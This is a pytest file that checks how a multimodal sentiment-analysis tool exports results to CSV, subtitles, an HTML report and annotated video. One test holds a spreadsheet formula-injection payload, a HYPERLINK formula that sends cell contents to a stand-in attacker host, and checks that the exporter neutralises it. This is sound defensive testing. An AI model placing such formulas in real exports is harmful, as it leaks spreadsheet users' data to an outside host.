"""Exports read back with independent parsers: csv, a subtitle regex, PyAV for the video."""

import codecs
import csv
import json
import math
import os
import re
import subprocess
import time
from pathlib import Path

import av
import imageio_ffmpeg
import numpy as np
import pytest
from mediagen import dubbed_video, write_pipe_webm
from test_results import TRICKY_TEXT, WORLD_TEXTS, make_analysis, one_hot, random_segment, with_gap_unread

from mmsent import export, media, overlay, plots
from mmsent.labels import EMOTIONS, MODALITIES, MODALITY_NAMES, SENTIMENTS, TASKS
from mmsent.results import Analysis, MediaFacts
from mmsent.subtitles import parse_subtitles

CLIP_SECONDS, CLIP_FPS, CLIP_SIZE = 2.4, 25, (320, 240)


def ffmpeg(*args):
    subprocess.run([imageio_ffmpeg.get_ffmpeg_exe(), "-v", "error", "-y", *map(str, args)],
                   check=True, timeout=60)


@pytest.fixture(scope="module")
def clip(tmp_path_factory):
    """A 2.4 s 320x240 test pattern with a 440 Hz tone (H.264 + AAC)."""
    path = tmp_path_factory.mktemp("media") / "pattern clip.mp4"
    w, h = CLIP_SIZE
    ffmpeg("-f", "lavfi", "-i", f"testsrc2=size={w}x{h}:rate={CLIP_FPS}:duration={CLIP_SECONDS}",
           "-f", "lavfi", "-i", f"sine=frequency=440:duration={CLIP_SECONDS}",
           "-c:v", "libx264", "-pix_fmt", "yuv420p", "-c:a", "aac", "-shortest", path)
    return path


def decode(path):
    with av.open(str(path)) as c:
        kinds = sorted(s.type for s in c.streams)
        frames = [f.to_ndarray(format="rgb24") for f in c.decode(video=0)]
        return kinds, float(c.duration / 1e6), frames


def test_csv_text_that_a_spreadsheet_would_run_is_shown_not_run(tmp_path):
    """Subtitles or speech can say =HYPERLINK(...): a cell starting = + - @ (or a tab, a carriage return) is a
    formula to a spreadsheet; it gets a leading ', and other text stays as it is."""
    a = make_analysis(6)
    said = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1 555 0100", "-- hey", "@channel", "\tindent",
            "Fine = good"]
    for seg, text in zip(a.segments, said):
        seg.text, seg.translation = text, text
    with open(export.write_csv(a, tmp_path / "a.csv"), newline="", encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert [r["text"] for r in rows] == ["'" + t for t in said[:5]] + ["Fine = good"]
    assert [r["translation"] for r in rows] == [r["text"] for r in rows]


def test_csv_reads_back(tmp_path):
    a = make_analysis(6)
    a.segments[4].text = "one line\rthe next\r\nthe last"  # a lone carriage return ended the row there
    path = export.write_csv(a, tmp_path / "a.csv")
    with open(path, newline="", encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(a.segments)
    assert list(rows[0]) == export.csv_header(a)
    for row, seg in zip(rows, a.segments):
        assert row["text"] == seg.text.replace("\r\n", "\n").replace("\r", "\n") and row["kind"] == seg.kind
        assert float(row["start"]) == pytest.approx(seg.start, abs=1e-6)
        assert row["top_emotion"] == seg.top_emotion[0]
        assert float(row["top_emotion_prob"]) == pytest.approx(seg.top_emotion[1], abs=1e-6)
        for k in EMOTIONS:
            assert float(row[f"emotion_{k}"]) == pytest.approx(seg.emotion[k], abs=1e-6)
        for k in SENTIMENTS:
            assert float(row[f"sentiment_{k}"]) == pytest.approx(seg.sentiment[k], abs=1e-6)
        assert row["modalities"].split("+") == seg.modalities
        for m in MODALITIES:
            got = row[f"contribution_{m}"]
            if m in seg.modalities:
                assert float(got) == pytest.approx(seg.contributions[m], abs=1e-6)
            else:
                assert got == ""
        for m in MODALITIES:
            for t, labels in zip(TASKS, (EMOTIONS, SENTIMENTS)):
                for k in labels:
                    got = row[f"{m}_{t}_{k}"]
                    if m in seg.modalities:
                        assert float(got) == pytest.approx(seg.per_modality[m][t][k], abs=1e-6)
                    else:
                        assert got == ""  # sense not used: empty, not zero
        if seg.face_box is None:
            assert row["face_box"] == ""
        else:
            assert [float(v) for v in row["face_box"].split(" ")] == pytest.approx(seg.face_box, abs=1e-6)
    assert rows[2]["text"] == TRICKY_TEXT  # quotes, commas, newline survive
    assert rows[2]["video_emotion_joy"] == "" and rows[0]["face_box"] == "0.25 0.2 0.6 0.7"
    assert export.csv_header(a)[-2:] == ["video_sentiment_positive", "face_box"]


def test_csv_opens_in_excel_as_utf8(tmp_path):
    """Excel reads a CSV without a byte order mark in the machine's legacy code page: Chinese, Arabic, Hindi or
    Köln came out as mojibake. The mark is written once, first; Python's "utf-8-sig" reads the text back."""
    a = make_analysis(len(WORLD_TEXTS))
    for seg, text in zip(a.segments, WORLD_TEXTS.values()):
        seg.text = text
    path = export.write_csv(a, tmp_path / "a.csv")
    raw = path.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8) and raw.count(codecs.BOM_UTF8) == 1
    with open(path, newline="", encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0]) == export.csv_header(a)  # "start", not "\ufeffstart"
    assert [r["text"] for r in rows] == list(WORLD_TEXTS.values())


SUMMARY_COLUMNS = ["file", "status", "reason", "duration (s)", "language", "segments", "segments read", "speakers",
                   "overall", "dominant emotion", *(f"share {k}" for k in EMOTIONS),
                   *(f"share {k} sentiment" for k in SENTIMENTS), "mean sentiment", "notes", "json"]


def read_summary(path):
    with open(path, newline="", encoding="utf-8-sig") as f:
        return list(csv.DictReader(f))


def test_the_summary_table_has_a_row_per_file_with_its_figures(tmp_path):
    """A run's files had to be compared by parsing a JSON file each. The summary table gives one row per file, in
    the order given: the figures of an analysed one (as Analysis.summary computes them, rounded), and for a failed
    one its reason alone. Like the per-file CSV: UTF-8 with a byte order mark, and a name that starts as a formula
    is shown, never run. Who speaks, where the subtitles name them, is in the table too (it was not)."""
    a = make_analysis(8, duration=61.237)
    with_gap_unread(a)
    for seg, name in zip(a.segments, ("Ann", "", "Ann, =Bob", "Cy")):  # where the subtitles name them
        seg.speaker = name
    rows = [export.summary_row("talks/a.mp4", a, "analysed", json_path=tmp_path / "a.json"),
            export.summary_row("talks/broken.mp4", None, "failed", "cannot be read as audio or video"),
            export.summary_row("=cmd.mp4", make_analysis(3, seed=1), "done before", json_path="out/=cmd.json")]
    path = export.write_summary(rows, tmp_path / "summary.csv")
    raw = path.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8) and raw.count(codecs.BOM_UTF8) == 1
    read = read_summary(path)
    assert list(read[0]) == SUMMARY_COLUMNS
    analysed, failed, formula = read
    summary = a.summary()
    assert analysed["file"] == "talks/a.mp4" and analysed["status"] == "analysed" and analysed["reason"] == ""
    assert float(analysed["duration (s)"]) == round(a.media.duration, 2) and analysed["language"] == a.language
    assert int(analysed["segments"]) == len(a.segments) == int(analysed["segments read"]) + 1
    assert analysed["speakers"] == "Ann, =Bob, Cy" and formula["speakers"] == ""  # each once; none named
    assert analysed["overall"] == summary.overall and analysed["dominant emotion"] == summary.dominant_emotion
    for label, share in [*summary.emotion_share.items(), *((f"{k} sentiment", v)
                                                          for k, v in summary.sentiment_share.items())]:
        assert float(analysed[f"share {label}"]) == pytest.approx(share, abs=0.5e-4)  # 4 decimals
    for labels, suffix in ((EMOTIONS, ""), (SENTIMENTS, " sentiment")):  # of the time read: each adds up to 1
        assert sum(float(analysed[f"share {k}{suffix}"]) for k in labels) == pytest.approx(1, abs=len(labels) * 0.5e-4)
    assert float(analysed["mean sentiment"]) == pytest.approx(summary.mean_sentiment, abs=0.5e-4)
    assert int(analysed["notes"]) == len(a.notes) and analysed["json"] == str(tmp_path / "a.json")
    assert failed["file"] == "talks/broken.mp4" and failed["status"] == "failed"
    assert failed["reason"] == "cannot be read as audio or video"
    assert all(failed[k] == "" for k in SUMMARY_COLUMNS[3:])
    assert formula["file"] == "'=cmd.mp4" and formula["json"] == "out/=cmd.json"  # a formula's start, behind a '
    assert formula["status"] == "done before"


def test_the_summary_of_a_file_where_nothing_was_read_has_no_shares(tmp_path):
    """Nothing read: no share or mean sentiment (empty, not zeros that a spreadsheet's averages would count)."""
    a = make_analysis(2)
    for seg in a.segments:
        seg.modalities, seg.contributions, seg.per_modality, seg.face_box = [], {}, {}, None
    row, = read_summary(export.write_summary([export.summary_row("quiet.mp4", a, "analysed")], tmp_path / "s.csv"))
    assert row["overall"] == "nothing read" and row["segments read"] == "0" and row["segments"] == "2"
    assert row["dominant emotion"] == row["mean sentiment"] == row["json"] == ""
    assert all(row[k] == "" for k in row if k.startswith("share "))


CUE = re.compile(r"(\d+)\n(\d\d:\d\d:\d\d[,.]\d\d\d) --> (\d\d:\d\d:\d\d[,.]\d\d\d)\n((?:.+\n?)+)")


def parse_cues(text):
    return [(int(n), t0, t1, body.rstrip("\n").split("\n")) for n, t0, t1, body in CUE.findall(text)]


def test_timestamps():
    assert export.timestamp(62.345, ",") == "00:01:02,345"
    assert export.timestamp(62.345, ".") == "00:01:02.345"
    assert export.timestamp(3 * 3600 + 0.0005, ",") == "03:00:00,000"
    assert export.timestamp(59.9996, ".") == "00:01:00.000"
    assert export.timestamp(-0.2, ",") == "00:00:00,000"


@pytest.mark.parametrize("fmt,sep", [("srt", ","), ("vtt", ".")])
def test_subtitles_read_back(tmp_path, fmt, sep):
    a = make_analysis(5, duration=75.0)
    a.segments[3].text = "a <b> & c --> d"
    writer = export.write_srt if fmt == "srt" else export.write_vtt
    text = writer(a, tmp_path / f"a.{fmt}").read_text(encoding="utf-8")
    assert text.startswith("WEBVTT\n\n") == (fmt == "vtt")
    cues = parse_cues(text)
    assert [c[0] for c in cues] == list(range(1, len(a.segments) + 1))
    for (_, t0, t1, lines), seg in zip(cues, a.segments):
        assert t0 == export.timestamp(seg.start, sep) and t1 == export.timestamp(seg.end, sep)
        emo, p = seg.top_emotion
        assert lines[-2].endswith(f"{emo} {p:.2f} · {seg.top_sentiment[0]} sentiment]")
        senses = [f"{name}: {seg.reading(m)[0]}" for m, name in
                  (("text", "words"), ("audio", "voice"), ("video", "face")) if m in seg.modalities]
        assert lines[-1] == f"({' · '.join(senses)})"  # what each sense says, short
    assert cues[1][3] == [f"[no speech: {export.label_line(a.segments[1])}]",
                          f"({a.segments[1].readings_text(probabilities=False)})"]
    assert cues[2][3][0] == " ".join(TRICKY_TEXT.split())  # one line, no blank line in a cue
    assert cues[3][3][0] == ("a <b> & c -> d" if fmt == "srt" else "a &lt;b&gt; &amp; c -&gt; d")
    a.segments[4].text, a.segments[4].translation = "Sono  molto felice.", "I am very\nhappy."
    assert parse_cues(writer(a, tmp_path / f"t.{fmt}").read_text(encoding="utf-8"))[4][3][:3] == [
        "Sono molto felice.", "(in English: I am very happy.)", f"[{export.label_line(a.segments[4])}]"]
    without = parse_cues(writer(a, tmp_path / f"b.{fmt}", include_gaps=False).read_text(encoding="utf-8"))
    assert len(without) == len(a.segments) - 1 and "no speech" not in str(without)
    for seg in a.segments:
        seg.per_modality = {}  # a version-1 analysis: no readings line
    assert parse_cues(writer(a, tmp_path / f"c.{fmt}").read_text(encoding="utf-8"))[0][3][-1].startswith("[")


@pytest.mark.parametrize("fmt", ["srt", "vtt"])
@pytest.mark.parametrize("said", ["go ---> there", "go ----> there", "a -->--> b"])
def test_a_longer_arrow_in_the_words_does_not_end_the_cue(tmp_path, fmt, said):
    """A cue's words with "-->" would be read as a time line: "--->" was made "-->" (its first "-" kept), and the
    player or subtitle reader then lost the cue's words and label."""
    a = make_analysis(3)
    a.segments[0].text = said
    writer = export.write_srt if fmt == "srt" else export.write_vtt
    text = writer(a, tmp_path / f"a.{fmt}").read_text(encoding="utf-8")
    assert text.count("-->") == len(a.segments)  # the time lines' only
    cues, _ = parse_subtitles(tmp_path / f"a.{fmt}")
    assert len(cues) == sum(s.kind == "speech" for s in a.segments) and cues[0].text == export.CUE_ARROW.sub("->", said)


@pytest.mark.parametrize("fmt", ["srt", "vtt"])
def test_mmsent_s_own_subtitles_read_back_give_their_words_not_the_emotions_written_beside_them(tmp_path, fmt):
    """An analysis's SRT or WebVTT given back as subtitles (--subtitles, or found beside its video by --subtitles
    auto) was read with its label and readings lines as words said: "I did it [sadness 0.31 · negative sentiment]
    (words: sadness · voice: joy)", the words' encoder reading the emotions an analysis had read. Its words alone are
    read (a gap's cue, no words, is left out), and the notes say so; other subtitles' bracketed lines stay."""
    a = make_analysis(6)
    a.segments[3].translation = "I am very happy."
    writer = export.write_srt if fmt == "srt" else export.write_vtt
    notes = []
    cues, _ = parse_subtitles(writer(a, tmp_path / f"a.{fmt}"), notes)
    assert [c.text for c in cues] == [" ".join(s.text.split()) for s in a.segments if s.kind == "speech"]
    assert notes == [f"The subtitle file a.{fmt} was written by mmsent (its cues carry the emotions an analysis read): "
                     "its words are read, without those emotions, what each sense said, or translations."]
    (tmp_path / "b.srt").write_text("1\n00:00:01,000 --> 00:00:02,000\n[laughs]\n(words: not ours)\nOh no.\n",
                                    encoding="utf-8")
    notes = []
    assert [c.text for c in parse_subtitles(tmp_path / "b.srt", notes)[0]] == ["[laughs] (words: not ours) Oh no."]
    assert notes == []


@pytest.mark.parametrize("fmt", ["srt", "vtt"])
def test_the_speaker_written_in_the_subtitles_is_read_back_with_the_words(tmp_path, fmt):
    """The SRT left out who speaks (the WebVTT has a voice tag): it names the speaker alone on the line above the
    words, as captions for the deaf do, in the name's own case ("Ann:"). mmsent's own file read back gives each
    segment's speaker and words, the name not read as words, and words before a colon (in capitals too) not read as
    a name."""
    a = make_analysis(7)
    named = {0: ("Ann", "Hello there."), 2: ("DR. WHO", TRICKY_TEXT), 3: ("Tom & Jerry", "Run!"),
             4: ("", "NOTE: SEE."), 5: ("Ann, Bob", "Listen:"), 6: ("", "Wait:")}
    for i, (speaker, text) in named.items():
        a.segments[i].speaker, a.segments[i].text = speaker, text
    a.segments[6].translation = "Aspetta:"
    writer = export.write_srt if fmt == "srt" else export.write_vtt
    path = writer(a, tmp_path / f"a.{fmt}")
    if fmt == "srt":
        assert "\nAnn:\nHello there.\n[" in path.read_text(encoding="utf-8")
    cues, _ = parse_subtitles(path, [])
    assert [(c.speaker, c.text) for c in cues] == [(s.speaker, " ".join(s.text.split())) for s in a.segments
                                                   if s.kind == "speech"]


@pytest.mark.parametrize("fmt", ["srt", "vtt"])
def test_subtitles_in_other_languages_read_back_as_written(tmp_path, fmt):
    """Chinese, Arabic, Hindi, emoji...: the words of each cue, as mmsent's own subtitle reader takes them back
    (an analysis's subtitles given again as --subtitles), with not a character changed."""
    a = make_analysis(len(WORLD_TEXTS))
    for seg, text in zip(a.segments, WORLD_TEXTS.values()):
        seg.text, seg.kind = text, "speech"
    writer = export.write_srt if fmt == "srt" else export.write_vtt
    cues, _ = parse_subtitles(writer(a, tmp_path / f"a.{fmt}"))
    assert [c.text.split(" [")[0] for c in cues] == list(WORLD_TEXTS.values())  # then the label line


def test_a_segment_where_nothing_was_read_is_blank_in_every_export(tmp_path):
    a = make_analysis(4)
    gap = with_gap_unread(a)
    assert not gap.read and all(s.read for s in a.segments if s is not gap)
    with open(export.write_csv(a, tmp_path / "a.csv"), newline="", encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    tops = ("top_emotion", "top_emotion_prob", "top_sentiment", "top_sentiment_prob")
    assert [rows[1][k] for k in tops] == [""] * 4 and rows[1]["modalities"] == ""
    assert all(row["top_emotion"] in EMOTIONS for i, row in enumerate(rows) if i != 1)
    srt = export.write_srt(a, tmp_path / "a.srt").read_text(encoding="utf-8")
    assert "[no speech: nothing read]" in srt and srt.count("nothing read") == 1
    page = export.write_html(a, tmp_path / "a.html").read_text(encoding="utf-8")
    assert page.count("<td>nothing read</td>") == 1


def test_a_translation_is_in_the_csv_and_beside_the_words_in_the_report(tmp_path):
    a = make_analysis(3)
    a.language, a.segments[0].text, a.segments[0].translation = "it", "Sono felice.", "I am happy."
    with open(export.write_csv(a, tmp_path / "a.csv"), newline="", encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert [r["translation"] for r in rows] == ["I am happy.", "", ""] and rows[0]["text"] == "Sono felice."
    page = export.write_html(a, tmp_path / "a.html").read_text(encoding="utf-8")
    assert ('<td dir="auto" lang="it">Sono felice. <span lang="en" dir="ltr">(in English: I am happy.)</span></td>'
            in page and "language: it, translated into English" in page)


def test_the_report_shows_words_in_their_language_and_direction(tmp_path):
    """The words' cells said nothing of their language or direction: Arabic and Hebrew were laid out left to right
    (a "!" at the wrong end, the cell aligned left) and Chinese took Japanese glyphs, or the reverse, as the browser
    guessed. The page around them stays English."""
    a = make_analysis(len(WORLD_TEXTS))
    for seg, text in zip(a.segments, WORLD_TEXTS.values()):
        seg.text = text
    a.language = "ar"
    page = export.write_html(a, tmp_path / "a.html").read_text(encoding="utf-8")
    assert page.startswith('<!DOCTYPE html>\n<html lang="en">')
    for text in WORLD_TEXTS.values():  # as written: no character escaped or lost
        assert f'<td dir="auto" lang="ar">{text}</td>' in page
    a.language = None
    page = export.write_html(a, tmp_path / "b.html").read_text(encoding="utf-8")
    assert f'<td dir="auto">{WORLD_TEXTS["he"]}</td>' in page and 'lang="ar"' not in page


def test_html_report_is_self_contained(tmp_path):
    a = make_analysis(5)
    a.segments[0].text = "the <first> words"
    page = export.write_html(a, tmp_path / "r.html").read_text(encoding="utf-8")
    assert page.count("Plotly.newPlot(") == 5  # the app's four figures and what each sense says
    assert not re.search(r"<script[^>]+src=[\"']?(https?:)?//", page)  # nothing fetched online
    assert len(page) > 1_000_000  # plotly.js is inlined (about 4.6 MB)
    assert "the &lt;first&gt; words" in page and a.notes[0] in page
    assert page.count("<tr>") == len(a.segments) + 1
    assert '<th scope="col">each sense says</th>' in page
    for seg in a.segments:  # the senses named as the page names them
        assert f"<td>{', '.join(MODALITY_NAMES[m] for m in seg.modalities)}</td><td>{seg.readings_text()}</td>" in page
    assert "What each sense says" in page
    assert json.dumps(round(a.segments[0].emotion["anger"], 4)) in page  # the figures carry the data (4 decimals)
    assert "5 segments · " in page and f"overall: {a.summary().overall} (mean probability " in page
    a.segments = a.segments[:1]
    assert "1 segment · " in export.write_html(a, tmp_path / "one.html").read_text(encoding="utf-8")


def test_the_report_reads_without_sight(tmp_path):
    """A screen reader met plotly's drawings as scattered ticks and legend words, with nothing to say what they
    show, and a table without row headers: each plot is now a figure named by its title, what it shows in words
    beneath it (the emotion share with its figures, the others pointing to the table, which holds their values),
    under headings; the table is named by its heading, its headers scoped, each row headed by its time. A phone
    lays the page out at its own width, and a table wider than the screen (at 200 % zoom) scrolls alone."""
    a = make_analysis(5)
    page = export.write_html(a, tmp_path / "r.html").read_text(encoding="utf-8")
    assert re.findall(r"<(h\d)[^>]*>([^<]*)</\1>", page) == [
        ("h1", f"mmsent: {Path(a.media.path).name}"), ("h2", "Notes"), ("h2", "Plots"), ("h2", "Segments")]
    figures = re.findall(r'<figure aria-label="([^"]+)">.*?<figcaption>([^<]+)</figcaption></figure>', page, re.DOTALL)
    assert [title for title, _ in figures] == [f.layout.title.text for f in plots.all_figures(a).values()]
    texts = dict(zip(plots.FIGURES, (text for _, text in figures)))
    assert all(texts[name] == export.FIGURE_TEXTS[name] for name in plots.FIGURES if name != "emotion_share")
    summary = a.summary()
    assert all(f"{k} {summary.emotion_share[k]:.0%} ({summary.emotion_mean[k]:.2f})" in texts["emotion_share"]
               for k in EMOTIONS)
    assert ('<h2 id="segments">Segments</h2>\n<div class="scrolls" role="region" aria-labelledby="segments" '
            'tabindex="0"><table aria-labelledby="segments">') in page  # scrolled alone, by keys too, where narrow
    # every column but the speaker's, which only subtitles that name them give
    assert page.count('<th scope="col">') == len(export.REPORT_COLUMNS) - 1 and page.count("<th>") == 0
    assert '<th scope="col">speaker</th>' not in page
    assert page.count('<th scope="row">') == len(a.segments)
    contributions = ", ".join(f"{MODALITY_NAMES[m]} {v:.2f}" for m, v in a.segments[0].contributions.items())
    assert contributions and f"<td>{contributions}</td></tr>" in page
    assert '<meta name="viewport" content="width=device-width, initial-scale=1">' in page


def test_the_report_says_contributions_not_measured_where_the_analysis_left_them_out(tmp_path):
    """With --no-contributions the figure said "not measured", and its caption pointed to the table's column
    "contributions", which was empty."""
    a = make_analysis(3)
    for seg in a.segments:
        seg.contributions = {}
    page = export.write_html(a, tmp_path / "r.html").read_text(encoding="utf-8")
    captions = re.findall(r"<figcaption>([^<]+)</figcaption>", page)
    assert captions[-1] == ("How much leaving each sense out changes the emotions: not measured, as the analysis was "
                            "made without (--no-contributions, or contributions=False).")
    assert not any('column "contributions"' in c or "column &quot;contributions" in c for c in captions)


def test_the_report_says_nothing_was_read_where_nothing_was(tmp_path):
    """Where nothing was read (a silent video without a face), the contributions' caption said they were left out
    with --no-contributions."""
    a = make_analysis(3)
    for seg in a.segments:
        seg.modalities, seg.per_modality, seg.contributions = [], {}, {}
    page = export.write_html(a, tmp_path / "r.html").read_text(encoding="utf-8")
    captions = re.findall(r"<figcaption>([^<]+)</figcaption>", page)
    assert len(captions) == len(export.FIGURE_TEXTS)
    assert all(c.endswith(" Here nothing was read (no words, voice or face).") for c in captions)
    assert not any("no-contributions" in c for c in captions)


def test_the_report_lists_each_speaker_with_the_name_in_its_own_direction(tmp_path):
    """The "By speaker" list showed an Arabic name's line as "0.2 :ليلى s, mostly joy" (the numbers after the name
    taken into its right-to-left run), and a name holding a right-to-left override (U+202E) turned the whole line
    round; each name is isolated (``bdi``), escaped."""
    a = make_analysis(5)
    for i, name in {0: "ليلى", 2: "\u202eBob", 3: "<b>Ann</b> & Co"}.items():
        a.segments[i].speaker = name
    page = export.write_html(a, tmp_path / "talk.html").read_text(encoding="utf-8")
    items = re.search(r"<h2>By speaker</h2><ul>(.*?)</ul>", page).group(1)
    assert re.findall(r"<li><bdi>(.*?)</bdi>: \d+\.\d s, ", items) == [
        "ليلى", "\u202eBob", "&lt;b&gt;Ann&lt;/b&gt; &amp; Co"]
    # the table's cell, escaped too, and as wide as the name (td[dir], the words' cells, are 12em at least)
    assert '<td><bdi>&lt;b&gt;Ann&lt;/b&gt; &amp; Co</bdi></td>' in page
    assert "td[dir]{overflow-wrap:anywhere;min-width:12em}" in page


def test_write_names_files_after_the_video(tmp_path):
    a = make_analysis(3, path="/somewhere/My Clip.mov")
    out = export.write(a, tmp_path / "out", ["json", "CSV", "srt", "vtt", "html", "json"])
    assert [p.name for p in out] == [f"My Clip.{ext}" for ext in ("json", "csv", "srt", "vtt", "html")]
    assert Analysis.from_json(out[0]) == a
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(p.name for p in out)


def test_formats_may_be_one_string_as_on_the_command_line_and_are_the_json_by_default(tmp_path):
    out = export.write(make_analysis(2, path="/somewhere/clip.mp4"), tmp_path, "json, CSV")
    assert [p.name for p in out] == ["clip.json", "clip.csv"]
    assert [p.name for p in export.write(make_analysis(2, path="/somewhere/clip.mp4"), tmp_path / "d")] == ["clip.json"]


def test_a_long_name_that_fits_is_written(tmp_path):
    """Results are written under a temporary name first: a name near the file system's 255 bytes still fits."""
    stem = "a" * (255 - len(".html"))
    out = export.write(make_analysis(2, path=f"/somewhere/{stem}.mp4"), tmp_path, ["json", "csv", "html"])
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(p.name for p in out) == [f"{stem}.{e}" for e in ("csv", "html", "json")]


@pytest.mark.parametrize("writer", [export.write_csv, export.write_srt, export.write_vtt, export.write_html])
def test_each_writer_alone_refuses_what_would_not_load_back(tmp_path, writer):
    """export.write checked an analysis edited by hand, but its writers called alone did not: the CSV took a missing
    label for a probability of 0 and a NaN time for "nan", the subtitles ended in "cannot convert float NaN to
    integer". Each is refused, naming the field, before any file is written."""
    for edit, field in ((lambda a: a.segments[0].emotion.pop("joy"), r"segments\[0\]\.emotion"),
                        (lambda a: setattr(a.segments[1], "start", math.nan), r"segments\[1\]\.start is nan"),
                        (lambda a: a.segments.reverse(), r"segments\[1\] starts at")):
        a = make_analysis(3)
        edit(a)
        with pytest.raises(ValueError, match="would not load back, so it is not written: .*" + field):
            writer(a, tmp_path / "a.out")
        assert list(tmp_path.iterdir()) == []


def test_the_annotated_video_alone_refuses_what_would_not_load_back_before_it_reads_the_video(tmp_path, clip,
                                                                                              monkeypatch):
    """overlay.write_video called alone did not check the analysis, as the other writers do: a NaN time or a missing
    label came out of moviepy and ffmpeg, if at all. It is refused, naming the field, before the video is read;
    export.write, which has checked it, does not check it again."""
    class Started(Exception):
        pass

    def started(*args):
        raise Started  # the video is probed, then ffmpeg runs

    monkeypatch.setattr(overlay, "_picture_facts", started)
    for edit, field in ((lambda a: a.segments[0].emotion.pop("joy"), r"segments\[0\]\.emotion"),
                        (lambda a: setattr(a.segments[1], "start", math.nan), r"segments\[1\]\.start is nan")):
        a = make_analysis(3, duration=CLIP_SECONDS, path=str(clip))
        edit(a)
        with pytest.raises(ValueError, match="would not load back, so it is not written: .*" + field):
            overlay.write_video(a, clip, tmp_path / "o.mp4")
        assert list(tmp_path.iterdir()) == []

    class Counted(Analysis):
        checks = 0

        def check(self):
            Counted.checks += 1
            return super().check()

    a = make_analysis(3, duration=CLIP_SECONDS, path=str(clip))
    with pytest.raises(Started):
        export.write(Counted(a.media, a.segments, a.model, a.language, a.transcript_source, a.notes), tmp_path,
                     ["json", "mp4"])
    assert Counted.checks == 1


def test_write_checks_the_analysis_once_for_all_its_formats(tmp_path):
    """Checking reads the whole analysis back (0.28 s for 1,400 segments): write checks once, not once more for the
    JSON nor for each writer."""
    class Counted(Analysis):
        checks = 0

        def check(self):
            Counted.checks += 1
            return super().check()

    a = make_analysis(4)
    counted = Counted(a.media, a.segments, a.model, a.language, a.transcript_source, a.notes)
    out = export.write(counted, tmp_path, ["json", "csv", "srt", "vtt", "html"])
    assert Counted.checks == 1 and len(out) == 5
    assert Analysis.from_json(out[0]) == a


def test_a_long_name_in_other_letters_that_fits_is_written(tmp_path):
    """The file system's 255 are bytes: a Chinese name of 83 characters (249 bytes) fits, and its temporary name, cut
    to 200 characters, kept all 83 and did not ("File name too long")."""
    stem = "我" * ((255 - len(".html")) // 3)
    out = export.write(make_analysis(2, path=f"/somewhere/{stem}.mp4"), tmp_path, ["json", "csv", "html"])
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(p.name for p in out) == [f"{stem}.{e}" for e in ("csv", "html", "json")]


def test_results_whose_names_no_file_system_holds_are_refused_before_any_is_written(tmp_path):
    """A 246-byte name fits, its annotated video's (260 bytes) does not: the JSON was written, then the video failed
    with ffmpeg's own lines ("Error opening output file ... Broken pipe")."""
    a = make_analysis(2, path="/somewhere/" + "y" * 246 + ".mp4")
    with pytest.raises(ValueError, match=r"'y+\.annotated\.mp4' is 260 bytes, at most 255\): give the file a shorter"):
        export.write(a, tmp_path, ["json", "mp4"])
    assert list(tmp_path.iterdir()) == []


def test_unknown_format_is_refused_before_writing(tmp_path):
    """Also beside "all" (all,jsno wrote every format, its typo unsaid), formats that are no names (b"json" was an
    AttributeError), and an analysis that names no file."""
    for formats in (["json", "gif"], "all,gif"):
        with pytest.raises(ValueError, match="unknown export format.*gif.*choose from json"):
            export.write(make_analysis(2), tmp_path, formats)
    for name in ("", "/"):  # an upload's name the client left out (README's Python API): hidden files ".json"
        with pytest.raises(ValueError, match=f"can't be named after {name!r}, which names no file"):
            export.write(make_analysis(2, path=name), tmp_path, "json")
    for formats in (b"json", None, ["json", 5]):
        with pytest.raises(TypeError, match=r"formats are named as a string \('json,csv'\) or a list of strings"):
            export.write(make_analysis(2), tmp_path, formats)
    assert list(tmp_path.iterdir()) == []


def test_all_names_every_format_and_none_is_refused(tmp_path):
    """`--format all` was an unknown format: every export had to be listed by hand. A list naming none wrote nothing
    without a word through export.write (the command line alone refused it)."""
    assert export.formats_named("all") == export.formats_named(" ALL, json") == list(export.FORMATS)
    assert export.formats_named(".CSV, json") == ["csv", "json"]
    a = make_analysis(2)
    a.media.has_video, a.media.width, a.media.height, a.media.fps = False, None, None, None  # a sound: no video to draw on
    for s in a.segments:
        s.face_box, s.modalities = None, [m for m in s.modalities if m != "video"]
        s.per_modality.pop("video", None)
        s.contributions.pop("video", None)
    out = export.write(a, tmp_path, "all")
    assert [p.suffix for p in out] == [".json", ".csv", ".srt", ".vtt", ".html"]
    for none in ("", " , ", []):
        with pytest.raises(ValueError, match="no export format named: choose from json, csv, srt, vtt, html, mp4, or all"):
            export.write(a, tmp_path / "none", none)
    assert not (tmp_path / "none").exists()


def test_failed_write_leaves_no_file(tmp_path):
    a = make_analysis(3)
    (tmp_path / "a.json").write_text("old", encoding="utf-8")
    a.segments[0].sentiment["positive"] = float("inf")
    with pytest.raises(ValueError):
        export.write_json(a, tmp_path / "a.json")
    assert [p.name for p in tmp_path.iterdir()] == ["a.json"]
    assert (tmp_path / "a.json").read_text(encoding="utf-8") == "old"  # untouched


def test_annotated_video(tmp_path, clip):
    a = make_analysis(3, duration=CLIP_SECONDS, path=str(clip))
    for seg in a.segments:
        seg.face_box = None  # only the captions here (the face box has its own test)
    drawn = []  # (frames written, frames in all), as the drawing goes
    out = export.write(a, tmp_path, ["mp4"], progress=lambda done, total: drawn.append((done, total)))
    assert out == [tmp_path / "pattern clip.annotated.mp4"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pattern clip.annotated.mp4"]  # no temp files
    _, _, before = decode(clip)
    kinds, duration, after = decode(out[0])
    assert kinds == ["audio", "video"]
    assert duration == pytest.approx(CLIP_SECONDS, abs=0.1)
    assert abs(len(after) - len(before)) <= 1 and after[0].shape == before[0].shape
    done = [d for d, _ in drawn]
    assert len(drawn) > 2 and done == sorted(done) and drawn[-1] == (len(after), len(after)), drawn
    h = CLIP_SIZE[1]
    for i in (5, len(before) // 2, len(before) - 5):
        old, new = before[i].astype(int), after[i].astype(int)
        caption = np.abs(new[-h // 5:] - old[-h // 5:]).mean()  # bottom fifth: the caption box
        rest = np.abs(new[: h // 2] - old[: h // 2]).mean()  # top half: only coding noise
        assert caption > 20 and rest < 4, (i, caption, rest)


